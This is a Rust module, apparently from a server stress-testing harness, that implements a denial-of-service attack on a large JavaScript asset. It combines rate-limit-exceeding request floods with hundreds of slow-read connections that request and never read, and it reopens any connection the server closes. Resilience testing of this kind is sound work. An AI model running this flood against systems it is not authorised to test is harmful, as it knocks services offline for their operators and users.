//! The attack on the largest page: some ask for it all the time, others ask and never read. A connection that the
//! server ends is opened again, within a pace.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{Instant, MissedTickBehavior, interval, sleep};

use super::Target;
use super::wire::{self, Pace};

/// Connections that ask and read, and how often each asks: 400 requests a second, twice what an address may.
const READERS: usize = 20;
const EVERY: Duration = Duration::from_millis(50);
/// Head start of the connections that do not read, which otherwise would not be served at all.
const LATER: Duration = Duration::from_secs(2);
/// Connections that ask and do not read, and how many requests are in their first breath.
const DEAF: usize = 300;
const AT_ONCE: usize = 10;
/// Interval between two further requests of such a connection: until one is refused, it is open.
const AGAIN: Duration = Duration::from_secs(2);

/// The page as it costs most to make, and as it is longest.
fn ask(packed: bool) -> Vec<u8> {
    let accept = if packed { "gzip, br" } else { "identity" };
    wire::get(
        "/assets/swagger-ui-bundle.js",
        &format!("accept-encoding: {accept}\r\n"),
    )
}

/// Attacks until it is dropped.
pub(crate) async fn run(target: Arc<Target>, _until: Instant) -> Vec<String> {
    let pace = Arc::new(Pace::per_second(150));
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..READERS {
        tasks.spawn(read(target.clone(), pace.clone()));
    }
    for _ in 0..DEAF {
        tasks.spawn(ignore(target.clone(), pace.clone()));
    }
    tasks.join_all().await;
    Vec::new()
}

async fn read(target: Arc<Target>, pace: Arc<Pace>) {
    let ask = ask(true);
    sleep(LATER).await;
    loop {
        pace.turn().await;
        let Ok(stream) = wire::dial(target.address, &target.tally).await else {
            target.tally.saw("could not connect");
            continue;
        };
        let (mut from, mut to) = stream.into_split();
        let mut tick = interval(EVERY);
        // One that has to wait does not hurry afterwards.
        tick.set_missed_tick_behavior(MissedTickBehavior::Delay);
        let asking = async {
            loop {
                tick.tick().await;
                if to.write_all(&ask).await.is_err() {
                    return;
                }
                target.tally.requests(1);
            }
        };
        let reading = async {
            let mut buffer = vec![0; 64 * 1024];
            while let Ok(n @ 1..) = from.read(&mut buffer).await {
                target
                    .tally
                    .bytes
                    .fetch_add(n as u64, std::sync::atomic::Ordering::Relaxed);
                // Answers begin where a packet does, nearly always; it is only for the eye.
                if buffer.starts_with(b"HTTP/1.1 ") {
                    target.tally.saw(String::from_utf8_lossy(&buffer[9..12]));
                }
            }
        };
        tokio::select! {
            () = asking => {}
            () = reading => {}
        }
        target.tally.saw("closed");
    }
}

async fn ignore(target: Arc<Target>, pace: Arc<Pace>) {
    let ask = ask(false);
    let breath = ask.repeat(AT_ONCE);
    loop {
        pace.turn().await;
        let Ok(mut stream) = wire::dial(target.address, &target.tally).await else {
            target.tally.saw("could not connect");
            continue;
        };
        let mut asked = stream.write_all(&breath).await;
        target.tally.requests(AT_ONCE as u64);
        while asked.is_ok() {
            sleep(AGAIN).await;
            asked = stream.write_all(&ask).await;
            target.tally.requests(1);
        }
        target.tally.saw("one that does not read: closed");
    }
}
